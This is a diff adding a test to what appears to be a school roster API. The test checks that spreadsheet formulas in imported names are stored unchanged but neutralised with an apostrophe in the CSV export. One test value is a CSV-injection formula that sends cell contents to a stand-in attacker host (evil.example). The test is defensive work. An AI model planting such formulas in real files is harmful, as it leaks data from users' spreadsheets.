@@ -164,3 +164,34 @@ async def test_text_fields_are_bounded_with_the_field_named(planning):
     ):
         r = await planning.client.request(method, path, json=body, headers=sistem())
         assert r.status_code < 500, (path[:60], r.text[:300])
+
+
+async def test_formulas_in_roster_fields_are_stored_as_given_and_neutralised_in_the_csv_export(planning):
+    import csv
+    import io
+
+    school = SampleSchool()
+    rows = rows_of(school)
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
+    rows[2]["name"], rows[3]["name"], rows[3]["jabatan"] = formula, "@SUM(1+1)", "-2+3"
+    imported = await planning.client.post("/v1/roster/imports", json={"rows": rows}, headers=sistem())
+    assert imported.status_code == 201, imported.text
+    # Stored and forwarded as given: data to us, JSON to everyone downstream.
+    people = (await planning.client.get(f"/v1/schools/{school.npsn}/people", headers=school.ks())).json()["people"]
+    assert {p["name"] for p in people} >= {formula, "@SUM(1+1)"}
+    [(_, envelope, _)] = await planning.events("planning.roster.imported", import_id=imported.json()["import_id"])
+    assert formula in {p["name"] for p in envelope["payload"]["people"]}
+
+    exported = await planning.client.get(f"/v1/schools/{school.npsn}/people.csv", headers=school.ks())
+    assert exported.status_code == 200, exported.text
+    assert exported.headers["content-type"].startswith("text/csv")
+    assert exported.headers["content-disposition"] == f'attachment; filename="roster-{school.npsn}.csv"'
+    assert '"\'=HYPERLINK(' in exported.text  # every cell quoted, the formula prefixed
+    table = list(csv.DictReader(io.StringIO(exported.text)))
+    by_nip = {r["nip"]: r for r in table}
+    assert by_nip[school.guru_nips[0]]["name"] == "'" + formula
+    assert (by_nip[school.guru_nips[1]]["name"], by_nip[school.guru_nips[1]]["jabatan"]) == ("'@SUM(1+1)", "'-2+3")
+    assert by_nip[school.ks_nip]["name"] == "Kepala, S.Pd." and by_nip[school.ks_nip]["npsn"] == school.npsn
+    assert list(table[0]) == HEADER.split(",") + ["school_jenjang", "school_status", "province_code", "nuptk", "nik", "jenis_ptk"]
+    guru = await planning.client.get(f"/v1/schools/{school.npsn}/people.csv", headers=school.guru())
+    assert guru.status_code == 403
